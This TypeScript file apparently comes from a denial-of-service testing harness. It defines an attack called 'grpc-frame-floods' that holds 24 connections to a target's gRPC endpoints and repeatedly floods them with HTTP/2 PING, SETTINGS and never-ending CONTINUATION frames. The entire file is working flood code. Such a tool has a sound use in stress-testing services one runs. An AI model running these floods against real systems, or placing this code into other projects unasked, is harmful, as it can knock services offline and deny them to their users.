import type { Attack } from '../attack.js';
import { holdConnections } from '../held-connections.js';
import { CALL, FLAG, frame, FRAME, literal, PREFACE } from '../http2-frames.js';

const CONNECTIONS = 24;
const FRAMES_AT_ONCE = 500;
const MOST_WAITING_BYTES = 1 << 20;
const PINGS = many(frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
/** ENABLE_PUSH 0, to be confirmed each time. */
const SETTINGS = many(frame(FRAME.settings, 0, 0, Buffer.of(0, 2, 0, 0, 0, 0)));
const CONTINUATIONS = many(frame(FRAME.continuation, 0, 1, literal('x-more', 'y'.repeat(100))));
const EMPTY_CONTINUATIONS = many(frame(FRAME.continuation, 0, 1));
const KINDS = [PINGS, SETTINGS, CONTINUATIONS, EMPTY_CONTINUATIONS] as const;

function many(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => one));
}

export const grpcFrameFloods: Attack = {
  name: 'grpc-frame-floods',
  story:
    'Floods of frames that have to be answered or kept: PING, SETTINGS, and headers that never end (CONTINUATION), with and without more in them.',
  door: 'grpc',
  inflict: ({ target, pick, over }) => {
    const kinds = new WeakMap<object, Buffer>();
    return holdConnections(
      {
        at: Object.values(target.grpc),
        connections: CONNECTIONS,
        reads: true,
        begin: (socket) => {
          const kind = KINDS[pick(KINDS.length)] ?? PINGS;
          kinds.set(socket, kind);
          socket.write(PREFACE);
          if (kind === CONTINUATIONS || kind === EMPTY_CONTINUATIONS)
            socket.write(frame(FRAME.headers, FLAG.endStream, 1, CALL));
        },
        again: {
          everyMs: 20,
          do: (socket) => {
            if (socket.writableLength < MOST_WAITING_BYTES)
              socket.write(kinds.get(socket) ?? PINGS);
          },
        },
      },
      over,
    );
  },
};
